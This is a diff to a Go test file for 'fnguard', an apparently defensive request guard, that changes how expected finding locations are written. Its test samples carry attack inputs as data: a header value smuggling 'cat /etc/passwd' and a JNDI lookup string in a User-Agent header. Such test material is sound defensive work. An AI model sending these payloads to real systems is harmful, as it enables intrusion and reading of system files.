@@ -17,8 +17,6 @@ type sample struct {
 
 	// For attacks: the category and location of the finding fnguard must
 	// report. Both are empty for benign traffic, which must reach the handler.
-	// Locations are written as fnguard writes them: a key that is not an
-	// identifier is quoted, as in headers["user-agent"].
 	category guard.Category
 	location string
 }
@@ -68,7 +66,7 @@ func samples() []sample {
 			name: "command injection in a header",
 			event: apiEvent(request{method: "GET", resource: "/reports/export", path: "/reports/export",
 				headers: [][2]string{{"X-Export-Name", "q3.csv; cat /etc/passwd"}}}),
-			category: guard.CmdI, location: `headers["x-export-name"]`,
+			category: guard.CmdI, location: "headers.x-export-name",
 		},
 		{
 			name: "SSRF to the metadata service",
@@ -81,7 +79,7 @@ func samples() []sample {
 			event: apiEvent(request{method: "GET", resource: "/products", path: "/products",
 				query:   [][2]string{{"q", "lamp"}},
 				headers: [][2]string{{"User-Agent", "${jndi:ldap://x/a}"}}}),
-			category: guard.JNDI, location: `headers["user-agent"]`,
+			category: guard.JNDI, location: "headers.user-agent",
 		},
 	}
 }
